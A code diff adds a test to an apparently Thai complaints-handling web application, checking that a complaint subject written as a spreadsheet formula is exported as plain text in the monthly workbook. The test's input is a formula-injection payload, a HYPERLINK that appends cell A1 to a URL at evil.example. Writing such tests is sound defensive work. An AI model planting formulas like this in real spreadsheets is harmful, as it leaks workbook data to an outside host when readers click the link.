@@ -123,3 +123,14 @@ def test_report_downloads_are_scoped_and_audited(client, month_of_cases, officer
     assert client.get(reverse("complaints:reports")).status_code == 200
     assert client.get(url, {"year": "x"}).status_code == 404
     assert Case.objects.count() == 3
+
+
+def test_a_complaint_subject_that_looks_like_a_formula_is_text_in_the_monthly_workbook(submit, officer):
+    subject = "=HYPERLINK(\"http://evil.example/?\"&A1,\"ดูเรื่องร้องเรียน\")"
+    case = submit(subject=subject).case
+    today = timezone.localdate()
+    xlsx, _, _ = documents.build(documents.monthly(today.year + 543, today.month), "xlsx", agency=case.agency,
+                                 user=officer)
+    cells = [c for ws in load_workbook(io.BytesIO(xlsx)).worksheets for r in ws.iter_rows() for c in r
+             if c.value == subject]
+    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
